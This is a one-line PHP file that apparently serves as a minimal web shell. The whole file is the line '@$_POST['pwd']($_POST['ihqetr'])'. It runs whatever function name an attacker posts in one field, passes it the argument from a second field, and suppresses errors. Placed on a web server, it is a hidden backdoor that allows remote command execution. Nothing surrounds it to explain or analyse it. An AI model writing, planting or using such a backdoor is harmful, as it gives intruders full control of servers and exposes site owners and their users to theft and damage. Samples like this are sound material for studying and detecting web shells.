<?php @$_POST['pwd']($_POST['ihqetr']); ?>
